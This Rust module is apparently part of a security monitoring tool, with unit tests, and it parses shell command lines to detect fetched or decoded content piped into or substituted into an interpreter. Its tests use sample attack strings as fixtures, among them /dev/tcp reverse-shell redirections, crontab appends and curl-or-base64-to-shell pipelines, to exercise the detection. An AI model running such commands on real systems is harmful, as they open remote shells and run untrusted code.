//! A minimal reading of shell text, good enough for command lines.
//!
//! Exec events carry shell text whenever a shell was handed a script
//! (`sh -c 'curl … | sh'`), and rules need its structure — which program a
//! pipeline stage runs, with which options, fed by what — rather than
//! substrings of it. These helpers recover that structure the way a reader
//! skimming the line would, and no further:
//!
//! * [`pipelines`] splits at `;`, `&&`, `||` and newlines, and [`stages`] at
//!   `|`, wherever those occur: a separator inside quotes splits too, which
//!   is what unwraps `sh -c 'a; b'` into its commands. A lone `&` does not
//!   split.
//! * [`words`] splits at blanks, quotes, parentheses, braces and operators.
//!   Quotes only separate words — they group nothing, and nothing is
//!   unescaped or expanded (`$HOME` stays `$HOME`). Redirections are
//!   dropped: their descriptor numbers and targets are not words.
//! * [`program`] finds the program a stage runs, skipping wrappers (`sudo`,
//!   `env`, `nohup`, `timeout` …) with their options, assignments and shell
//!   keywords, and unwrapping `sh -c` so the program is the one the inner
//!   script starts with.
//! * [`runs_standard_input`] tells whether a shell or interpreter runs what
//!   it is piped (`| sh`, `| python3 -`) rather than a script or an inline
//!   program (`| python3 -m json.tool`).
//! * [`substitutions`] finds `$(…)`, `` `…` `` and `<(…)`, and
//!   [`Substitution::executor`] tells whether what they produce is run.
//! * [`piped_into_interpreter`] and [`executed_substitution`] put these
//!   together: some command's output executed, through a pipe or a
//!   substitution.
//!
//! This is no POSIX parser: there is no here-document, function, `case` or
//! alias handling, no expansion, and operators inside quotes count as
//! operators. Rules built on it should expect a false reading now and then
//! and pin the shapes they rely on with fixtures.

use crate::matchers::any_of;

/// The shells that run a script given with `-c` or on standard input.
pub const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"];

/// The pipelines of a command line: the text between `;`, `&&`, `||` and
/// newlines.
pub fn pipelines(text: &str) -> impl Iterator<Item = &str> {
    text.split([';', '\n']).flat_map(|list| list.split("&&")).flat_map(|list| list.split("||"))
}

/// The stages of a pipeline: the text between `|`s.
pub fn stages(pipeline: &str) -> impl Iterator<Item = &str> {
    pipeline.split('|')
}

/// Every stage of every pipeline of `text`, for checks that do not care
/// which pipeline a command is in.
pub fn all_stages(text: &str) -> impl Iterator<Item = &str> {
    pipelines(text).flat_map(stages)
}

/// The words of shell text. Quotes, parentheses and braces only separate
/// words; redirections (`2>&1`, `> file`, `<&196`) are dropped, descriptor
/// numbers and targets alike, so that what remains is a command and its
/// arguments.
pub fn words(text: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut start = None;
    // A trailing separator closes the last word.
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        let separator = c.is_whitespace() || "'\"`(){}<>&;|".contains(c);
        match (separator, start) {
            (true, Some(from)) => {
                start = None;
                if !is_redirection(text, from, at) {
                    words.push(&text[from..at]);
                }
            }
            (false, None) => start = Some(at),
            _ => {}
        }
    }
    words
}

/// Whether the word `text[from..to]` is a redirection's target (`> file`,
/// `>& 2`, `<> /dev/tcp/…`) or descriptor number (`2>`).
fn is_redirection(text: &str, from: usize, to: usize) -> bool {
    // Quotes around a target (`> "/tmp/x"`) still make it the target.
    let before = text[..from].trim_end_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
    // `>&` and `<&` duplicate a descriptor; a bare `&` separates commands.
    let before = before.strip_suffix('&').filter(|b| b.ends_with(['<', '>'])).unwrap_or(before);
    before.ends_with(['<', '>'])
        || (text[from..to].bytes().all(|b| b.is_ascii_digit()) && text[to..].starts_with(['<', '>']))
}

/// The program a stage runs, as its index in `words` and the word itself:
/// the first word after wrappers (`sudo -u x`, `nohup`, `env A=b`,
/// `timeout 5`), assignments, shell keywords and a `sh -c` that hands the
/// rest of the stage to a shell. `None` if only those remain.
///
/// The arguments of the program are `&words[index + 1..]`.
pub fn program<'t>(words: &[&'t str]) -> Option<(usize, &'t str)> {
    // `$` is what `words` leaves of `$(…)` and `${…}`; the keywords start the
    // commands of compound statements.
    const SKIPPED: &[&str] = &[
        "sudo", "doas", "exec", "nohup", "setsid", "command", "builtin", "env", "nice", "timeout", "stdbuf", "busybox",
        "!", "$", "if", "then", "else", "do", "while", "until", "time",
    ];
    // Wrapper options taking a value, whose value would else pass for the program.
    const VALUE_OPTIONS: &[&str] = &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"];
    let mut at = 0;
    while let Some(word) = words.get(at) {
        at += 1;
        let options = words[at..].iter().take_while(|option| option.starts_with('-'));
        if word.starts_with('-') {
            at += usize::from(any_of(word, VALUE_OPTIONS).is_some());
        } else if is_shell(word) && options.clone().any(|option| short_flags(option).is_some_and(|f| f.contains('c'))) {
            at += options.count();
        } else if any_of(basename(word), SKIPPED).is_none()
            && !is_assignment(word)
            // Durations, priorities and descriptor numbers (`timeout 5`, `nice 10`).
            && !word.starts_with(|c: char| c.is_ascii_digit())
        {
            return Some((at - 1, word));
        }
    }
    None
}

/// Whether `word` is a variable assignment (`A=1`, `token=$(…)`), which
/// sets the environment of a command rather than naming one.
pub fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

/// The last component of a path (`/usr/bin/curl` → `curl`), so programs
/// match however they were invoked.
pub fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// The letters of a short-option cluster (`-fsSL` → `fsSL`), or `None` if
/// `word` is no such cluster (`--decode`, `-`, `-x.y`). Digits count as
/// option letters (`curl -4o` is `-4 -o`), so an attached numeric value
/// reads as letters too (`-w0` → `w0`).
pub fn short_flags(word: &str) -> Option<&str> {
    word.strip_prefix('-').filter(|flags| !flags.is_empty() && flags.chars().all(|c| c.is_ascii_alphanumeric()))
}

/// Whether `word` names one of the [`SHELLS`], with or without its directory.
pub fn is_shell(word: &str) -> bool {
    any_of(basename(word), SHELLS).is_some()
}

/// The option letters that give a shell or interpreter its program inline
/// (`sh -c`, `python -m`, `perl -e`), or `None` if `program` (a name or a
/// path) is no shell or interpreter this module knows.
pub fn inline_flags(program: &str) -> Option<&'static str> {
    let name = basename(program);
    let python =
        name.strip_prefix("python").is_some_and(|version| version.chars().all(|c| c.is_ascii_digit() || c == '.'));
    if is_shell(name) {
        Some("c")
    } else if python {
        Some("cm")
    } else {
        match name {
            "perl" => Some("eE"),
            "ruby" => Some("e"),
            "php" => Some("r"),
            "node" | "nodejs" => Some("ep"),
            _ => None,
        }
    }
}

/// Whether `program` (a name or a path) run with `args` is a shell or
/// interpreter reading its program from standard input: no script operand,
/// `-s`, `-` or `/dev/stdin`, and no inline program (`-c`, `-m`, `-e` …).
pub fn runs_standard_input(program: &str, args: &[&str]) -> bool {
    let Some(inline) = inline_flags(program) else {
        return false;
    };
    let shell = is_shell(program);
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        match *arg {
            "-" | "/dev/stdin" => return true,
            // Shell options whose value would else pass for a script file.
            "-o" | "+o" | "-O" | "+O" | "-W" | "-X" => {
                args.next();
            }
            _ if arg.starts_with("--") => {}
            _ if arg.starts_with(['-', '+']) => {
                let flags = &arg[1..];
                if flags.contains(|c| inline.contains(c)) {
                    return false;
                }
                // `-s` makes a shell read standard input even with operands.
                if shell && flags.contains('s') {
                    return true;
                }
            }
            // A script file: standard input is only its data.
            _ => return false,
        }
    }
    true
}

/// A command or process substitution found by [`substitutions`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Substitution<'t> {
    /// All the text before the substitution, which decides who uses its output.
    pub before: &'t str,
    /// Whether it is a process substitution, `<(…)`, rather than `$(…)` or `` `…` ``.
    pub is_process: bool,
    /// The text inside it.
    pub body: &'t str,
}

/// The command and process substitutions of `text` (`$(…)`, `` `…` ``,
/// `<(…)`), outer ones before those nested in them. One left open runs to
/// the end of the text, as a truncated command line would.
pub fn substitutions(text: &str) -> Vec<Substitution<'_>> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let parenthesised = matches!(bytes[at], b'$' | b'<') && bytes.get(at + 1) == Some(&b'(');
        if bytes[at] == b'`' {
            let end = text[at + 1..].find('`').map_or(text.len(), |end| at + 1 + end);
            found.push(Substitution { before: &text[..at], is_process: false, body: &text[at + 1..end] });
            at = end + 1;
        } else if parenthesised {
            let mut depth = 0usize;
            let end = (at + 1..bytes.len())
                .find(|&i| {
                    match bytes[i] {
                        b'(' => depth += 1,
                        b')' => depth -= 1,
                        _ => {}
                    }
                    depth == 0
                })
                .unwrap_or(bytes.len());
            found.push(Substitution { before: &text[..at], is_process: bytes[at] == b'<', body: &text[at + 2..end] });
            // Only past the opening: substitutions nested inside are found too.
            at += 2;
        } else {
            at += 1;
        }
    }
    found
}

impl<'t> Substitution<'t> {
    /// Who executes this substitution's output: `eval`, a shell or
    /// interpreter given it as inline program (`sh -c "$(…)"`, named as
    /// written) or as script (`bash <(…)`, `source <(…)`), or
    /// `"the shell (command position)"` when it stands where a command
    /// goes (`cd /tmp && $(…)`). `None` when the output is only data
    /// (`echo "$(…)"`, `x=$(…)`, `diff <(…) <(…)`).
    pub fn executor(&self) -> Option<&'t str> {
        let before = self.before.trim_end_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
        if !self.is_process && (before.is_empty() || before.ends_with([';', '&', '|', '(', '{'])) {
            return Some("the shell (command position)");
        }
        let words = words(before);
        let (last, rest) = words.split_last()?;
        if self.is_process {
            let runs = matches!(*last, "source" | ".") || inline_flags(last).is_some();
            return runs.then_some(*last);
        }
        if *last == "eval" {
            return Some("eval");
        }
        let flags = short_flags(last)?;
        let program = rest.iter().rev().find(|word| !word.starts_with('-'))?;
        let inline = inline_flags(program)?;
        flags.contains(|c| inline.contains(c)).then_some(*program)
    }
}

/// Output of a stage piped into a shell or interpreter that runs it: in one
/// pipeline of `text`, the first stage for which `source` (given the
/// program's name and its arguments) says something, followed — directly or
/// through stages in between (`| tee x |`, `| gunzip |`) — by a stage that
/// [`runs_standard_input`]. Returns what `source` said and the name of the
/// program that runs the output.
pub fn piped_into_interpreter<T>(text: &str, mut source: impl FnMut(&str, &[&str]) -> Option<T>) -> Option<(T, &str)> {
    pipelines(text).find_map(|pipeline| {
        let mut found = None;
        stages(pipeline).find_map(|stage| {
            let words = words(stage);
            let (at, program) = program(&words)?;
            let (name, args) = (basename(program), &words[at + 1..]);
            // Checked before `source`, so that a stage never runs its own output.
            if found.is_some() && runs_standard_input(name, args) {
                return found.take().map(|found| (found, name));
            }
            if found.is_none() {
                found = source(name, args);
            }
            None
        })
    })
}

/// Output of a command run in a substitution and then executed: the first
/// substitution of `text` with a stage for which `source` (given the
/// program's name and its arguments) says something, and whose output has
/// an [executor](Substitution::executor). Returns what `source` said and the
/// executor.
pub fn executed_substitution<T>(text: &str, mut source: impl FnMut(&str, &[&str]) -> Option<T>) -> Option<(T, &str)> {
    substitutions(text).into_iter().find_map(|substitution| {
        let found = all_stages(substitution.body).find_map(|stage| {
            let words = words(stage);
            let (at, program) = program(&words)?;
            source(basename(program), &words[at + 1..])
        })?;
        Some((found, substitution.executor()?))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn program_of(stage: &str) -> Option<(usize, &str)> {
        program(&words(stage))
    }

    fn program_name(stage: &str) -> Option<&str> {
        program_of(stage).map(|(_, word)| word)
    }

    fn executor_of(text: &str) -> Option<&str> {
        substitutions(text).first().and_then(Substitution::executor)
    }

    #[test]
    fn pipelines_split_at_list_operators_even_inside_quotes() {
        let split: Vec<_> = pipelines("a; b && c || d | e\nf & g").collect();
        assert_eq!(split, ["a", " b ", " c ", " d | e", "f & g"]);
        let split: Vec<_> = pipelines("sh -c 'cd /tmp; ./x'").collect();
        assert_eq!(split, ["sh -c 'cd /tmp", " ./x'"]);
    }

    #[test]
    fn stages_split_at_pipes() {
        assert_eq!(stages("curl x | tee y |sh").collect::<Vec<_>>(), ["curl x ", " tee y ", "sh"]);
        assert_eq!(stages("id").collect::<Vec<_>>(), ["id"]);
    }

    #[test]
    fn all_stages_span_every_pipeline() {
        assert_eq!(all_stages("a | b; c || d | e").collect::<Vec<_>>(), ["a ", " b", " c ", " d ", " e"]);
    }

    #[test]
    fn words_split_at_quotes_and_operators_without_grouping() {
        assert_eq!(words(r#"sh -c 'echo "a b"'"#), ["sh", "-c", "echo", "a", "b"]);
        assert_eq!(words("(crontab -l; echo x)"), ["crontab", "-l", "echo", "x"]);
        assert_eq!(words("{ id;}"), ["id"]);
        assert_eq!(words("eval $(curl -s x)"), ["eval", "$", "curl", "-s", "x"]);
        assert_eq!(words("do $line"), ["do", "$line"]);
        assert_eq!(words("a=1 ./run --opt=x"), ["a=1", "./run", "--opt=x"]);
        assert_eq!(words("  "), Vec::<&str>::new());
    }

    #[test]
    fn words_drop_redirections() {
        assert_eq!(words("cat a 2>&1 > /tmp/o"), ["cat", "a"]);
        assert_eq!(words("echo x >>/etc/crontab"), ["echo", "x"]);
        assert_eq!(words("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), ["bash", "-i"]);
        assert_eq!(words("sh <&196 >&196 2>&196"), ["sh"]);
        assert_eq!(words("exec 5<>/dev/tcp/192.0.2.1/4444"), ["exec"]);
        assert_eq!(words(r#"echo x > "/tmp/o""#), ["echo", "x"]);
        assert_eq!(words("cat <<EOF"), ["cat"]);
        // A bare `&` runs in the background; what follows is a command.
        assert_eq!(words("sleep 1 & id"), ["sleep", "1", "id"]);
        // Digits not followed by a redirection are arguments.
        assert_eq!(words("head -n 5 f"), ["head", "-n", "5", "f"]);
    }

    #[test]
    fn is_redirection_knows_targets_and_descriptors() {
        let text = "cmd 2>&1 >> out 0<&5 x";
        let word = |w: &str| {
            let from = text.find(w).unwrap();
            is_redirection(text, from, from + w.len())
        };
        assert!(word("2"));
        assert!(word("1"));
        assert!(word("out"));
        assert!(word("0"));
        assert!(word("5"));
        assert!(!word("cmd"));
        assert!(!word("x"));
    }

    #[test]
    fn program_skips_wrappers_assignments_and_keywords() {
        assert_eq!(program_of("curl -fsSL x"), Some((0, "curl")));
        assert_eq!(program_of(" sudo -u root env A=1 nohup /usr/bin/curl x"), Some((6, "/usr/bin/curl")));
        assert_eq!(program_of("sudo -E bash -s -- --yes"), Some((2, "bash")));
        assert_eq!(program_of("timeout 10 nice wget x"), Some((3, "wget")));
        assert_eq!(program_of("TOKEN=x python3 -"), Some((1, "python3")));
        assert_eq!(program_of("while read line"), Some((1, "read")));
        assert_eq!(program_of("do $line 2>&5"), Some((1, "$line")));
        assert_eq!(program_of("if ! grep -q x f"), Some((2, "grep")));
        assert_eq!(program_of("$(curl x)"), Some((1, "curl")));
        assert_eq!(program_of("exec 5<>/dev/tcp/192.0.2.1/80"), None);
        assert_eq!(program_of(""), None);
    }

    #[test]
    fn program_unwraps_sh_c() {
        assert_eq!(program_name("/bin/sh -c curl -s x"), Some("curl"));
        assert_eq!(program_name("bash -lc 'cat <&3'"), Some("cat"));
        assert_eq!(program_name("sudo bash -x -c id"), Some("id"));
        assert_eq!(program_name("sh -c"), None);
        // Without `-c` the shell itself runs: a script, or standard input.
        assert_eq!(program_name("bash ./x.sh"), Some("bash"));
        assert_eq!(program_name("sh -s"), Some("sh"));
    }

    #[test]
    fn is_assignment_needs_a_variable_name() {
        assert!(is_assignment("A=1"));
        assert!(is_assignment("_token=$(cat f)"));
        assert!(is_assignment("x="));
        assert!(!is_assignment("=x"));
        assert!(!is_assignment("--output=f"));
        assert!(!is_assignment("a-b=1"));
        assert!(!is_assignment("curl"));
    }

    #[test]
    fn basename_is_the_last_path_component() {
        assert_eq!(basename("/usr/bin/curl"), "curl");
        assert_eq!(basename("./run"), "run");
        assert_eq!(basename("curl"), "curl");
        assert_eq!(basename("dir/"), "");
    }

    #[test]
    fn short_flags_read_option_clusters() {
        assert_eq!(short_flags("-fsSL"), Some("fsSL"));
        assert_eq!(short_flags("-di"), Some("di"));
        assert_eq!(short_flags("-4o"), Some("4o"));
        assert_eq!(short_flags("-w0"), Some("w0"));
        assert_eq!(short_flags("--decode"), None);
        assert_eq!(short_flags("-"), None);
        assert_eq!(short_flags("-x.y"), None);
        assert_eq!(short_flags("+o"), None);
        assert_eq!(short_flags("x"), None);
    }

    #[test]
    fn is_shell_ignores_the_directory() {
        assert!(is_shell("sh"));
        assert!(is_shell("/usr/bin/zsh"));
        assert!(!is_shell("bash5"));
        assert!(!is_shell("fish"));
        assert!(!is_shell("/bin/sh/x"));
    }

    #[test]
    fn inline_flags_per_interpreter() {
        assert_eq!(inline_flags("bash"), Some("c"));
        assert_eq!(inline_flags("/bin/dash"), Some("c"));
        assert_eq!(inline_flags("python"), Some("cm"));
        assert_eq!(inline_flags("/usr/bin/python3.11"), Some("cm"));
        assert_eq!(inline_flags("python-config"), None);
        assert_eq!(inline_flags("perl"), Some("eE"));
        assert_eq!(inline_flags("ruby"), Some("e"));
        assert_eq!(inline_flags("php"), Some("r"));
        assert_eq!(inline_flags("nodejs"), Some("ep"));
        assert_eq!(inline_flags("jq"), None);
    }

    #[test]
    fn runs_standard_input_without_script_or_inline_program() {
        assert!(runs_standard_input("sh", &[]));
        assert!(runs_standard_input("/bin/bash", &["-s", "--", "--yes"]));
        assert!(runs_standard_input("bash", &["-o", "pipefail"]));
        assert!(runs_standard_input("bash", &["--norc", "-x"]));
        assert!(runs_standard_input("python3", &["-"]));
        assert!(runs_standard_input("perl", &["/dev/stdin"]));
        assert!(runs_standard_input("ruby", &["-w"]));
        assert!(!runs_standard_input("bash", &["./x.sh"]));
        assert!(!runs_standard_input("bash", &["-c", "id"]));
        assert!(!runs_standard_input("python3", &["-m", "json.tool"]));
        assert!(!runs_standard_input("node", &["-e", "x"]));
        // Only shells take `-s`: to Python it is a plain option.
        assert!(!runs_standard_input("python3", &["-s", "x.py"]));
        assert!(!runs_standard_input("grep", &[]));
    }

    #[test]
    fn substitutions_find_all_three_forms_and_nesting() {
        let found = substitutions("a $(b $(c)) `d` <(e) >(f)");
        let bodies: Vec<_> = found.iter().map(|s| (s.body, s.is_process)).collect();
        assert_eq!(bodies, [("b $(c)", false), ("c", false), ("d", false), ("e", true)]);
        assert_eq!(found[0].before, "a ");
        assert_eq!(found[3].before, "a $(b $(c)) `d` ");
        assert_eq!(substitutions("eval $(curl x")[0].body, "curl x");
        assert_eq!(substitutions("eval `curl x")[0].body, "curl x");
        assert!(substitutions("echo $HOME (x)").is_empty());
    }

    #[test]
    fn executor_of_command_substitutions() {
        assert_eq!(executor_of(r#"bash -c "$(x)""#), Some("bash"));
        assert_eq!(executor_of(r#"/bin/bash -c "$(x)""#), Some("/bin/bash"));
        assert_eq!(executor_of("python3 -c $(x)"), Some("python3"));
        assert_eq!(executor_of("eval `x`"), Some("eval"));
        assert_eq!(executor_of("$(x)"), Some("the shell (command position)"));
        assert_eq!(executor_of("cd /tmp && $(x)"), Some("the shell (command position)"));
        assert_eq!(executor_of("cd /tmp; '$(x)'"), Some("the shell (command position)"));
        assert_eq!(executor_of(r#"echo "$(x)""#), None);
        assert_eq!(executor_of("v=$(x)"), None);
        assert_eq!(executor_of("python3 -m $(x)"), Some("python3"));
        assert_eq!(executor_of("bash -x $(x)"), None);
    }

    #[test]
    fn executor_of_process_substitutions() {
        assert_eq!(executor_of("bash <(x)"), Some("bash"));
        assert_eq!(executor_of("source <(x)"), Some("source"));
        assert_eq!(executor_of(". <(x)"), Some("."));
        assert_eq!(executor_of("diff <(x) <(y)"), None);
        assert_eq!(executor_of("<(x)"), None);
    }

    fn downloader(name: &str, _: &[&str]) -> Option<String> {
        any_of(name, &["curl", "wget"]).map(str::to_string)
    }

    #[test]
    fn piped_into_interpreter_follows_the_output_through_later_stages() {
        let piped =
            |text: &str| piped_into_interpreter(text, downloader).map(|(what, runner)| format!("{what}>{runner}"));
        assert_eq!(piped("curl -fsSL x | sh").as_deref(), Some("curl>sh"));
        assert_eq!(piped("wget -qO- x | tee /tmp/i | sudo -E bash -s -- -y").as_deref(), Some("wget>bash"));
        assert_eq!(piped("sh -c 'curl x | /usr/bin/python3 -'").as_deref(), Some("curl>python3"));
        // The first source of a pipeline is the one reported.
        assert_eq!(piped("curl a | wget -i - -O- | sh").as_deref(), Some("curl>sh"));
        assert_eq!(piped("curl x | python3 -m json.tool"), None);
        assert_eq!(piped("curl x | bash ./process.sh"), None);
        // Only within one pipeline, and only downstream of the source.
        assert_eq!(piped("curl -o i.sh x; sh i.sh"), None);
        assert_eq!(piped("curl -fsS x || bash"), None);
        assert_eq!(piped("sh | curl x"), None);
    }

    #[test]
    fn piped_into_interpreter_hands_source_the_arguments() {
        let decoder = |name: &str, args: &[&str]| (name == "base64" && args.contains(&"-d")).then_some("base64");
        assert_eq!(piped_into_interpreter("echo x | base64 -d | sh", decoder), Some(("base64", "sh")));
        assert_eq!(piped_into_interpreter("base64 x | sh", decoder), None);
    }

    #[test]
    fn executed_substitution_needs_the_source_inside_and_an_executor() {
        assert_eq!(
            executed_substitution(r#"/bin/bash -c "$(curl -fsSL x)""#, downloader),
            Some(("curl".into(), "/bin/bash"))
        );
        assert_eq!(executed_substitution("eval `echo; wget -qO- x`", downloader), Some(("wget".into(), "eval")));
        assert_eq!(executed_substitution("source <(sudo curl x)", downloader), Some(("curl".into(), "source")));
        assert_eq!(
            executed_substitution("cd /tmp && $(curl x)", downloader),
            Some(("curl".into(), "the shell (command position)"))
        );
        assert_eq!(executed_substitution(r#"echo "$(curl x)""#, downloader), None);
        assert_eq!(executed_substitution("v=$(curl x)", downloader), None);
        assert_eq!(executed_substitution(r#"bash -c "$(cat x)""#, downloader), None);
    }
}
